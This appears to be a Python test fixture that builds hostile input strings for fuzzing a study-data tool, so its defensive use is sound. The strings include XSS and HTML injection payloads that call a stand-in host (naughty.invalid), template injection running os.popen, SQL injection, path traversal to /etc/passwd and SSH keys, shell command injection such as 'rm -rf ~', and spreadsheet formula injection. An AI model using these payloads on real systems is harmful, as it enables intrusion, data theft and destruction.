"""Hostile strings by kind: what a title, a label, a class or a file could be called by who means harm, or by accident.

Each kind is payloads × wrappers, written here and made the same way every time. Every string fits a study file's
texts (at most 300 characters) and holds no control character; those are in ``CONTROLS``.
"""

from collections.abc import Iterable

LONGEST = 300
"""Characters that a study file takes in one text."""

SCRIPTS = (
    "alert(1)",
    "top.naughty=1",
    "parent.document.title='naughty'",
    "document.body.innerHTML='naughty'",
    "fetch('//naughty.invalid/a')",
    "new Image().src='//naughty.invalid/b'",
    "location='//naughty.invalid/c'",
    "import('//naughty.invalid/d.js')",
)
ELEMENTS = (
    "<script>{}</script>",
    "<ScRiPt>{}</sCrIpT>",
    "<script\n>{}</script >",
    "<img src=x onerror={}>",
    '<img src="//naughty.invalid/e.png" onload="{}">',
    "<svg onload={}>",
    "<svg><script>{}</script></svg>",
    "<svg><animate onbegin={} attributeName=x dur=1s>",
    "<body onload={}>",
    '<iframe srcdoc="<script>{}</script>"></iframe>',
    '<iframe src="javascript:{}"></iframe>',
    "<details open ontoggle={}>",
    "<input autofocus onfocus={}>",
    "<video><source onerror={}></video>",
    "<math><mtext><style><img src=x onerror={}></style></mtext></math>",
    "<!--><script>{}</script>-->",
    '<noscript><p title="</noscript><script>{}</script>">',
    "</title><script>{}</script>",
    "</style><script>{}</script>",
    "</textarea></select><script>{}</script>",
    "</svg></figure><script>{}</script>",
    "]]><script>{}</script>",
)
REQUESTS = (
    '<link rel=stylesheet href="//naughty.invalid/f.css">',
    '<link rel=preload as=image href="//naughty.invalid/g.png">',
    '<meta http-equiv=refresh content="0;url=//naughty.invalid/h">',
    '<base href="//naughty.invalid/">',
    '<object data="//naughty.invalid/i"></object>',
    '<embed src="//naughty.invalid/j">',
    '<form action="//naughty.invalid/k"><button autofocus>x</button></form>',
    "<style>@import '//naughty.invalid/l.css';</style>",
    "<style>body{background:url(//naughty.invalid/m.png)}</style>",
    "<table background=//naughty.invalid/n.png><tr><td>x",
    "<image href=//naughty.invalid/o.png>",
    "<svg><use href='//naughty.invalid/p.svg#a'></svg>",
    "<audio src=//naughty.invalid/q.mp3 autoplay>",
    "<a href=//naughty.invalid/r ping=//naughty.invalid/s>x</a>",
)
BREAKOUTS = ("{q}>{p}", "{q} {p}", "{q}/{p}", "{q}{q}>{p}", "\\{q}>{p}", "{q}]{p}", "{q}>{p}<{q}", "x{q}\n{p}")
QUOTES = ('"', "'", "`", "", "\u2018", "\u201d", "\uff02", "&quot;", "&#39;", "%22")
IN_ATTRIBUTE = ("<script>alert(1)</script>", "onmouseover=alert(1) x=", "autofocus tabindex=1 onfocus=alert(1)")
URLS = (
    "javascript:{}",
    "JaVaScRiPt:{}",
    "java\tscript:{}",
    " javascript:{}",
    "javascript&colon;{}",
    "vbscript:{}",
    "data:text/html,<script>{}</script>",
    "data:image/svg+xml,<svg onload={}>",
    "jav&#x09;ascript:{}",
    "view-source:javascript:{}",
    "//naughty.invalid/?{}",
    "file:///C:/naughty?{}",
)
STYLES = (
    "expression({})",
    "x:expression({})",
    "color:red;background:url(javascript:{})",
    "}}*{{background:url(//naughty.invalid/t?{})}}",
    "behavior:url(#default#{})",
    "-moz-binding:url(//naughty.invalid/u#{})",
    "@import 'javascript:{}';",
    "/*</style>*/{}",
)
TEMPLATES = (
    "{{{{{}}}}}",
    "{{% {} %}}",
    "{{# {} #}}",
    "${{{}}}",
    "#{{{}}}",
    "<%= {} %>",
    "<?php {} ?>",
    "@({})",
    "{{{}}}",
    "[[{}]]",
    "*{{{}}}",
    "%({})s",
    "{{{}!r:>99999}}",
    "$({})",
    "`{}`",
)
IN_TEMPLATE = (
    "7*7",
    "config",
    "self.__init__.__globals__",
    "''.__class__.__mro__[1].__subclasses__()",
    "label",
    "gap.__class__",
    "cycler.__init__.__globals__.os.popen('id').read()",
)
QUERIES = (
    "' OR '1'='1",
    "'; DROP TABLE leerlingen;--",
    '" UNION SELECT null, null --',
    "Robert'); DROP TABLE Students;--",
    "1;EXEC xp_cmdshell('dir')",
    "admin'/*",
    "') OR 1=1#",
    "%' AND 1=0 UNION ALL SELECT '",
)
PATHS = (
    "../../../../etc/passwd",
    "..\\..\\..\\windows\\system32\\config\\sam",
    "..%2f..%2fetc%2fpasswd",
    "/dev/null",
    "C:\\CON",
    "NUL.csv",
    "\\\\naughty.invalid\\share\\x",
    "~/.ssh/id_rsa",
    "file.csv;rm -rf ~",
    "$(touch naughty)",
    "| cat /etc/passwd",
    "-rf",
    "--out=/",
    ".",
    "..",
    "a/../b",
)
EXPRESSIONS = (
    "datum['{}']",
    "datum.{}",
    'datum["{}"]',
    "{{'expr': \"{}\"}}",
    '{{"signal": "{}"}}',
    '{{"expr": "{}"}}',
    "{}:Q",
    "{}:N",
    "mean({})",
    "param_1.{}",
    "isValid(datum['{}']) && 1",
    "warn('{}')",
    "\\.{}[0]",
)
IN_EXPRESSION = (
    "x",
    "toString",
    "constructor",
    "__proto__",
    "constructor.constructor('alert(1)')()",
    "x']; alert(1);//",
)
BREAKERS = (
    '"""', "'''", '"]', "]]", '\\"', "\\", "\\u0000", "\\x41", 'x"\ny = "z', "[design]", "[[outcomes]]", "#", "= 1",
    "null", "NaN", "undefined", "true", "None", "-", "0", "1e309", "-0", "0x1F", "1,5", '{"a": 1', "[1, 2", "}", ",",
    ";", "&", "<", ">", "</", "<!--", "-->", "<![CDATA[", "]]>", "<?xml?>", "<!DOCTYPE x>", "&amp;", "&lt;b&gt;", "%s",
    "%n", "%00", "{", "{}", "{0}", "{label}", "{0.__class__}", "{{", "}}", "\\n", "__proto__", "*", "**x**", "[x](y)",
    "$x^2$", "\\(x\\)", "![x](//naughty.invalid/v.png)", "<//naughty.invalid>",
)  # fmt: skip
ENTITIES = (
    "&lt;script&gt;{}&lt;/script&gt;",
    "&#60;script&#62;{}&#60;/script&#62;",
    "&#x3c;script&#x3e;{}&#x3c;/script&#x3e;",
    "&amp;lt;script&amp;gt;{}",
    "%3Cscript%3E{}%3C/script%3E",
    "\\u003cscript\\u003e{}",
    "\\x3cscript\\x3e{}",
    "\uff1cscript\uff1e{}\uff1c/script\uff1e",
    "&LT;script&GT;{}",
    "+ADw-script+AD4-{}",
)
CELLS = ("=", "+", "-", "@", "\t=", "|", '=""&')
FORMULAS = (
    "cmd|' /C calc'!A0",
    'HYPERLINK("//naughty.invalid/w","klik")',
    "1+1",
    "SUM(1+1)*cmd|'/c calc'!A1",
    'IMPORTXML("//naughty.invalid/x","//a")',
    'WEBSERVICE("//naughty.invalid/y")',
)
LETTERS = (
    "e\u0301e\u0301n klas",
    "Z" + "\u0300\u0301\u0302\u0303\u0304\u0305\u0306" * 8 + "algo",
    "\U0001f469\u200d\U0001f469\u200d\U0001f467 groep",
    "\U0001f1e7\U0001f1ea 5A",
    "\u0645\u062f\u0631\u0633\u0629",
    "\u05db\u05d9\u05ea\u05d4 5A 12,5",
    "5A \u0645\u062f\u0631\u0633\u0629 3,2",
    "\u5b66\u6821\u4e94\u5e74\u7ea7",
    "\u0e42\u0e23\u0e07\u0e40\u0e23\u0e35\u0e22\u0e19",
    "zero\u200bwidth",
    "zero\u200djoiner",
    "soft\u00adhyphen",
    "\ufeffbom",
    "word\u2060joiner",
    "no\u00a0break\u202fspace",
    "line\u2028separator",
    "\u2029paragraph",
    "\U000e0041tag",
    "\ufffd",
    "\uff15\uff21",
    "\U0001d504\U0001d505",
    "\u0130stanbul \u0131",
    "stra\u00dfe \ufb03",
    "\u1e9e\u01c4\u01c5",
    "K\u212ala\u017f",
    "\u0660\u0661\u0662",
    "\u00bd \u2154 \u00b2",
    "\u2003wide\u3000space\u2003",
    "\U0010fffd\ue000",
    "\u0b95\u0bcd\u0bb7",
)
WITH_LETTERS = ("{}", "<b>{}</b>", '"{}"', "{} <script>alert(1)</script>", "&{};")
LONG = (
    *(letter * LONGEST for letter in 'aW<"-\u00e9\u5b66'),
    *((word * LONGEST)[:LONGEST] for word in ("woord ", "Jan-Pieter-", "<b>", "&amp;", "{{", "aaaaaaaaa ")),
    ("https://naughty.invalid/" + "x" * LONGEST)[:LONGEST],
)

CONTROLS = tuple(f"voor{chr(n)}na" for n in (*range(1, 9), 11, 12, *range(14, 32), *range(127, 160)))
"""A control character between two words; NUL ends a study file's reading, tab and new line are white space."""
TURNED = tuple(f"{chr(n)}punten 1,4" for n in (*range(0x202A, 0x202F), *range(0x2066, 0x206A)))
"""Marks that turn the order of what follows them, outside the text that holds them too."""


def _crossed(wrappers: Iterable[str], payloads: Iterable[str]) -> list[str]:
    payloads = tuple(payloads)
    return [wrapper.format(payload) for wrapper in wrappers for payload in payloads]


KINDS: dict[str, list[str]] = {
    "script": _crossed(ELEMENTS, SCRIPTS),
    "request": list(REQUESTS),
    "attribute": [shape.format(q=q, p=p) for shape in BREAKOUTS for q in QUOTES for p in IN_ATTRIBUTE],
    "url": _crossed(URLS, SCRIPTS[:4]),
    "style": _crossed(STYLES, SCRIPTS[:3]),
    "template": _crossed(TEMPLATES, IN_TEMPLATE),
    "query": list(QUERIES),
    "path": list(PATHS),
    "expression": _crossed(EXPRESSIONS, IN_EXPRESSION),
    "breaker": list(BREAKERS),
    "entity": _crossed(ENTITIES, SCRIPTS[:3]),
    "formula": [sign + formula for sign in CELLS for formula in FORMULAS],
    "letters": _crossed(WITH_LETTERS, LETTERS),
    "long": list(LONG),
}
STRINGS: tuple[str, ...] = tuple(dict.fromkeys(text for texts in KINDS.values() for text in texts))
